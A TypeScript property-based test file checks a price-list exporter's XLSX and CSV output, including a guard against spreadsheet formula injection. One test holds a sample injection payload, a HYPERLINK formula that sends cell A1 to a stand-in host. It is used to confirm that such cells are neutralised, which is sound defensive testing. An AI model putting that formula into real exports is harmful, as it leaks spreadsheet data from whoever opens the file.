import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { arrayBuffer, EXPORT_RUNS, anyText, back, cellText } from '../../../tests/support/any-text.ts';
import { exportCsv, exportXlsx, type ExportProduct } from './exporter.ts';
import { readTable, unguardFormula } from './table.ts';

/** A price list of any text (ADR 0051): the files open, every text comes back bar what no text may hold. */

const priceList = fc.record({
  products: fc.array(
    fc.record({ partNumber: anyText, name: anyText, category: anyText, description: anyText }),
    { minLength: 1, maxLength: 3 },
  ),
  warehouse: anyText,
});
const productsOf = (
  texts: ReadonlyArray<{ partNumber: string; name: string; category: string; description: string }>,
): ExportProduct[] =>
  texts.map((t) => ({ ...t, price: 1234.5, quality: 'new', stocks: [{ warehouseId: 1, quantity: 3 }] }));

describe('the price list’s exports of any text', () => {
  it('XLSX: re-read by the library that wrote it, every text as it was bar what XML cannot carry', async () => {
    await fc.assert(
      fc.asyncProperty(priceList, async ({ products, warehouse }) => {
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load(
          arrayBuffer(await exportXlsx(productsOf(products), [{ id: 1, name: warehouse }])),
        );
        const sheet = workbook.worksheets[0]!;
        expect(sheet.getRow(1).getCell(7).value).toBe(back(`Остаток: ${warehouse}`, 'xml'));
        products.forEach((t, index) => {
          const row = sheet.getRow(index + 2);
          expect([1, 2, 4, 6].map((column) => cellText(row.getCell(column).value))).toEqual(
            [t.partNumber, t.name, t.category, t.description].map((text) => back(text, 'xml')),
          );
          expect(row.getCell(7).value).toBe(3);
        });
      }),
      EXPORT_RUNS,
    );
  }, 120_000);

  it('CSV: parses back to the same cells once the formula guard is read back', () => {
    fc.assert(
      fc.property(priceList, ({ products, warehouse }) => {
        // A text that itself starts with «'=» cannot be told from a guarded «=»: the one text not kept.
        fc.pre(
          ![warehouse, ...products.flatMap((t) => Object.values(t))].some((text) =>
            /^'[=+\-@\t\r]/.test(back(text)),
          ),
        );
        const csv = exportCsv(productsOf(products), [{ id: 1, name: warehouse }]);
        const rows = (parse(csv, { delimiter: ';', bom: true }) as string[][]).map((cells) =>
          cells.map(unguardFormula),
        );
        expect(rows[0]![6]).toBe(back(`Остаток: ${warehouse}`));
        products.forEach((t, index) => {
          expect([0, 1, 3, 5, 6].map((column) => rows[index + 1]![column])).toEqual([
            back(t.partNumber),
            back(t.name),
            back(t.category),
            back(t.description),
            '3',
          ]);
        });
      }),
      EXPORT_RUNS,
    );
  });

  it('CSV: a text that starts like a formula is guarded for Excel and imports back as it was', async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")';
    const csv = exportCsv(
      productsOf([{ partNumber: '+7-800', name, category: '@Колёсные пары', description: '-20 °C' }]),
      [{ id: 1, name: 'Склад' }],
    );
    const [, row] = parse(csv, { delimiter: ';', bom: true }) as string[][];
    expect([row![0], row![1], row![3], row![5]]).toEqual([
      "'+7-800",
      `'${name}`,
      "'@Колёсные пары",
      "'-20 °C",
    ]);
    const table = await readTable(new TextEncoder().encode(csv));
    expect([
      table.rows[0]!.cells[0],
      table.rows[0]!.cells[1],
      table.rows[0]!.cells[3],
      table.rows[0]!.cells[5],
    ]).toEqual(['+7-800', name, '@Колёсные пары', '-20 °C']);
  });
});
